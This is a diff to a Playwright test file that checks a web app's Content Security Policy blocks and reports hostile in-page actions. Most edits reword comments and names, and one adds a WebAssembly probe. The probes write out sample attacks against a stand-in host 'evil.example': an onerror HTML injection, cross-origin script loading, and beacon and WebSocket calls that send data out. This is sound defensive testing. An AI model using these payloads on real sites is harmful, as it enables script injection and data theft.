@@ -3,20 +3,20 @@ import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
 import { test as base, expect } from '../kit/test.ts';
 
-/** The probes below make the noise that every other test forbids. */
+/** The probes below cause the violations that fail every other test. */
 const test = base.extend({ quiet: ({ baseURL: _ }, use) => use(undefined) });
 
 const evil = 'https://evil.example';
 
 interface Probe {
   name: string;
-  /** The directive that stops it, as the browser names it. */
+  /** The directive that blocks it, as the browser names it. */
   directive: string;
   /** Runs in the page. */
   attempt: (evil: string) => unknown;
 }
 
-/** In the page: a policy as lax as a careless one would be, so that Trusted Types do not stop what the rest must stop. */
+/** Inserts a Trusted Types policy as lax as a careless one, so that the other directives have to block. */
 declare const trusted: { createScript(text: string): string; createScriptURL(text: string): string };
 
 const probes: Probe[] = [
@@ -30,7 +30,7 @@ const probes: Probe[] = [
     },
   },
   {
-    name: 'a script of another origin',
+    name: 'a script from another origin',
     directive: 'script-src-elem',
     attempt: (origin) => {
       const script = document.createElement('script');
@@ -47,44 +47,52 @@ const probes: Probe[] = [
     },
   },
   {
-    name: 'text for a script',
+    name: 'WebAssembly, which only the guidance worker may compile',
+    directive: 'script-src',
+    attempt: async () => {
+      await WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));
+      Object.assign(window, { hit: true });
+    },
+  },
+  {
+    name: 'a string as script source',
     directive: 'require-trusted-types-for',
     attempt: () => {
       document.createElement('script').text = 'window.hit = true';
     },
   },
   {
-    name: 'text as HTML',
+    name: 'a string as HTML',
     directive: 'require-trusted-types-for',
     attempt: () => {
       document.createElement('div').innerHTML = '<img src=x onerror="window.hit = true">';
     },
   },
   {
-    name: 'text for a timer',
+    name: 'a string as timer handler',
     directive: 'require-trusted-types-for',
     attempt: () => {
       setTimeout('window.hit = true' as unknown as () => void);
     },
   },
   {
-    name: 'a frame of another origin',
+    name: 'a frame from another origin',
     directive: 'frame-src',
     attempt: (origin) =>
       document.body.append(Object.assign(document.createElement('iframe'), { src: origin })),
   },
   {
-    name: 'a frame of our own',
+    name: 'a frame from our own origin',
     directive: 'frame-src',
     attempt: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
   },
   {
-    name: 'an image of another origin',
+    name: 'an image from another origin',
     directive: 'img-src',
     attempt: (origin) => document.body.append(Object.assign(new Image(), { src: `${origin}/x.png?face` })),
   },
   {
-    name: 'an image of data',
+    name: 'an image from a data URL',
     directive: 'img-src',
     attempt: () =>
       document.body.append(Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })),
@@ -100,12 +108,12 @@ const probes: Probe[] = [
     attempt: (origin) => navigator.sendBeacon(`${origin}/x`, 'face'),
   },
   {
-    name: 'a socket to another origin',
+    name: 'a WebSocket to another origin',
     directive: 'connect-src',
     attempt: (origin) => new WebSocket(origin.replace('https', 'wss')),
   },
   {
-    name: 'a style in the page',
+    name: 'an inline style',
     directive: 'style-src-elem',
     attempt: () =>
       document.head.append(
@@ -113,7 +121,7 @@ const probes: Probe[] = [
       ),
   },
   {
-    name: 'a style of another origin',
+    name: 'a stylesheet from another origin',
     directive: 'style-src-elem',
     attempt: (origin) =>
       document.head.append(
@@ -138,13 +146,13 @@ const probes: Probe[] = [
     },
   },
   {
-    name: 'another base',
+    name: 'a base element',
     directive: 'base-uri',
     attempt: (origin) =>
       document.head.append(Object.assign(document.createElement('base'), { href: origin })),
   },
   {
-    name: 'a worker of a blob',
+    name: 'a worker from a blob',
     directive: 'worker-src',
     attempt: () => {
       const url = URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }));
@@ -153,7 +161,7 @@ const probes: Probe[] = [
   },
 ];
 
-/** The directives that stopped something since the page was opened; the policy that only reports is not counted. */
+/** The directives that blocked something since the page was opened, report-only policies excluded. */
 async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const stopped: string[] = [];
@@ -172,7 +180,7 @@ async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
 
 const reachedOut = (page: Page) => {
   const urls: string[] = [];
-  // Whatever passed the policy would come here, and find an answer.
+  // A request that passes the policy would get here and find a response.
   void page.context().route(`${evil}/**`, (route) => {
     urls.push(route.request().url());
     return route.fulfill({ body: 'window.hit = true', contentType: 'text/javascript' });
@@ -180,7 +188,7 @@ const reachedOut = (page: Page) => {
   return urls;
 };
 
-test('whatever a hostile script tries is blocked, by its own directive, and reported', async ({
+test('everything a hostile script tries is blocked by the right directive and reported', async ({
   page,
   visit,
 }) => {
@@ -191,7 +199,7 @@ test('whatever a hostile script tries is blocked, by its own directive, and repo
     await test.step(name, async () => {
       await page.evaluate(() => ((window as unknown as { stopped: string[] }).stopped.length = 0));
       const report = page.waitForResponse((response) => response.url().endsWith('/csp-report'));
-      // What throws was stopped too; the browser says by what.
+      // What throws was blocked too; the browser reports the directive.
       await page.evaluate(attempt, evil).catch(() => undefined);
       await expect.poll(stopped).toContain(directive);
       expect((await report).status()).toBe(204);
@@ -201,15 +209,15 @@ test('whatever a hostile script tries is blocked, by its own directive, and repo
   }
 });
 
-test('blocked: our page in a frame of another site', async ({ page, deployment }) => {
-  // Another site of this machine: a browser keeps far ones from a loopback address for a reason of its own.
+test('our page in a frame of another site is blocked', async ({ page, deployment }) => {
+  // Another site on this machine: browsers block remote sites from a loopback address for a different reason.
   const other = createServer((_, response) => {
     response.setHeader('content-type', 'text/html').end(`<iframe src="${deployment.url}/"></iframe>`);
   });
   await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
   const site = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
   const [refused] = await Promise.all([page.waitForEvent('requestfailed'), page.goto(site)]);
-  // The response came and its headers forbid the frame; nothing else has that name.
+  // The response arrived and its headers forbid framing; no other error has this name.
   expect([refused.url(), refused.failure()?.errorText]).toEqual([
     `${deployment.url}/`,
     'net::ERR_BLOCKED_BY_RESPONSE',
